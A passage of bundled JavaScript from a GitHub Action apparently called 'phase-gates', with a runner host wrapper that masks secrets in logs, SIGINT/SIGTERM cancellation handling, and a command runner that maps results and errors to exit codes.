    holdsSecret(text) {
        return this.forms.some((form) => text.includes(form));
    }
    /** Length of the longest registered form (0 without secrets). */
    longest() {
        return this.forms[0]?.length ?? 0;
    }
    /** Every form, for hosts that mask on their own (the runner's log). */
    values() {
        return this.forms;
    }
}

;// CONCATENATED MODULE: ./.build/src/host/actions-host.js
/** The Host over `@actions/core`: what the runner expects (INPUT_*, GITHUB_OUTPUT, GITHUB_STEP_SUMMARY). */


class ActionsHost {
    workspace;
    env = process.env;
    constructor() {
        this.workspace = process.env.GITHUB_WORKSPACE || process.cwd();
    }
    getInput(name) {
        return core/* getInput */.V4(name, { trimWhitespace: false });
    }
    setOutput(name, value) {
        core/* setOutput */.uH(name, value);
    }
    async appendSummary(markdown) {
        if (!process.env.GITHUB_STEP_SUMMARY) {
            core/* debug */.Yz('GITHUB_STEP_SUMMARY is not set: no job summary written');
            return;
        }
        await core/* summary */.z.addRaw(markdown, true).write();
        core/* summary */.z.emptyBuffer();
    }
    annotate(level, message, props = {}) {
        const p = { ...props };
        if (level === 'error')
            core/* error */.z3(message, p);
        else if (level === 'warning')
            core/* warning */.$e(message, p);
        else
            core/* notice */.lm(message, p);
    }
    info(message) {
        core/* info */.pq(message);
    }
    debug(message) {
        core/* debug */.Yz(message);
    }
    /** Registers the secret with the runner, in each form the shared masker knows (the runner adds its own). */
    setSecret(value) {
        if (!value)
            return;
        core/* setSecret */.Pq(value);
        for (const form of secretForms(value))
            if (form !== value)
                core/* setSecret */.Pq(form);
    }
}


/***/ }),

/***/ 4956:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  d: () => (/* binding */ runCommand)
});

// UNUSED EXPORTS: ExitCode

// EXTERNAL MODULE: ./.build/src/core/errors.js
var errors = __webpack_require__(6512);
// EXTERNAL MODULE: ./.build/src/core/early-signals-key.js
var early_signals_key = __webpack_require__(6554);
;// CONCATENATED MODULE: ./.build/src/core/cancel.js
/**
 * Cancellation as the runner does it: a cancelled job's step gets SIGINT, then SIGTERM, then
 * SIGKILL a few seconds apart. Commands turn the first signal into an aborted AbortSignal (its
 * `reason` is the signal's name), stop what runs, record that they were cancelled, and end.
 */


/** A run stopped by cancellation. One line, exit 1, like any error a user sees. */
class Cancelled extends errors/* UserError */.y {
    signalName;
    constructor(signalName, message) {
        super(`cancelled (${signalName}): ${message}`);
        this.signalName = signalName;
        this.name = 'Cancelled';
    }
}
/** The name of the signal that aborted `signal` ("a signal" when it was aborted otherwise). */
function signalName(signal) {
    return typeof signal.reason === 'string' ? signal.reason : 'a signal';
}
const SIGNALS = ['SIGINT', 'SIGTERM'];
/**
 * Takes SIGINT and SIGTERM over from the start-up handlers of src/host/early-signals.ts: `handler`
 * gets every later signal, and at once each one received before (a cancel during start-up is not
 * lost). The returned function gives them back to the start-up handlers, which keep what comes after.
 */
function claimSignals(handler) {
    const early = globalThis[early_signals_key/* EARLY_SIGNALS */._];
    for (const name of SIGNALS) {
        process.on(name, handler);
        if (early)
            process.off(name, early.handler);
    }
    for (const name of early?.pending.splice(0) ?? [])
        handler(name);
    return () => {
        for (const name of SIGNALS) {
            process.off(name, handler);
            if (early)
                process.on(name, early.handler);
        }
    };
}
/**
 * Aborts the returned signal on the first SIGINT or SIGTERM of this process (also one received
 * during start-up, before this was called), after calling `first` (synchronously: the runner's
 * SIGKILL may follow in seconds). Later signals are ignored, so that the run can finish recording.
 * `dispose` removes the handlers.
 */
function onCancel(first = () => undefined) {
    const controller = new AbortController();
    const dispose = claimSignals((name) => {
        if (controller.signal.aborted)
            return;
        first(name);
        controller.abort(name);
    });
    return { signal: controller.signal, dispose };
}
/** Waits `ms`, or throws {@link Cancelled} as soon as `signal` is aborted. */
function sleepUnlessCancelled(ms, signal, what) {
    if (!signal)
        return new Promise((resolve) => setTimeout(resolve, ms));
    if (signal.aborted)
        return Promise.reject(new Cancelled(signalName(signal), what));
    return new Promise((resolve, reject) => {
        const onAbort = () => {
            clearTimeout(timer);
            reject(new Cancelled(signalName(signal), what));
        };
        const timer = setTimeout(() => {
            signal.removeEventListener('abort', onAbort);
            resolve();
        }, ms);
        signal.addEventListener('abort', onAbort, { once: true });
    });
}

;// CONCATENATED MODULE: ./.build/src/host/run.js
/**
 * How entries end: a user error prints its lines (`::error::` in the actions) and exits 1 with no
 * stack trace; a failed verdict prints its reason and exits 1; anything else is an internal error,
 * whose stack is shown only in debug output.
 */


const ExitCode = { Ok: 0, Failed: 1 };
/**
 * Runs a command on a host and returns the exit code; never throws. A command that does not handle
 * cancellation itself (`handlesCancel` false: it has nothing to record or clean up) ends at the
 * first SIGINT or SIGTERM, also one received during start-up, with one error line and exit 1.
 */
async function runCommand(host, command, handlesCancel = false) {
    const release = handlesCancel
        ? undefined
        : claimSignals((name) => {
            host.annotate('error', `cancelled (${name})`);
            process.exit(ExitCode.Failed);
        });
    try {
        const result = await command(host);
        if (!result.ok) {
            host.annotate('error', result.message ?? 'failed');
            return ExitCode.Failed;
        }
        return ExitCode.Ok;
    }
    catch (err) {
        if (err instanceof errors/* UserError */.y) {
            for (const line of err.renderAll())
                host.annotate('error', line);
            return ExitCode.Failed;
        }
        const e = err;
        host.annotate('error', `internal error: ${e?.message ?? String(err)} (a bug in phase-gates: please report it; debug output shows the stack)`.replace(/[\r\n]+/g, ' '));
        host.debug(e?.stack ?? String(err));
        return ExitCode.Failed;
    }
    finally {
        release?.();
    }
}


/***/ })

};
